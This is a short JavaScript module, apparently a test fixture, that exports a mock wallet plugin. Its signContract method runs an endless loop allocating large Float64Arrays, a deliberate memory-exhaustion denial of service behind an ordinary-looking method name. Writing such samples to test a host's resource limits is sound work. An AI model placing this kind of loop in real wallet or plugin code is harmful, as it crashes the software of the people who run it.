// Keeps ever more typed arrays.
const staged = {}
export const wallet = { name: 'typed-arrays' }
export const my = {
  signContract(options) {
    const kept = []
    for (;;) kept.push(new Float64Array(5e6).fill(1))
  },
}
export function stage(wish) {
  Object.assign(staged, wish)
  return { signStr: 'https://wallet.example/sign' }
}
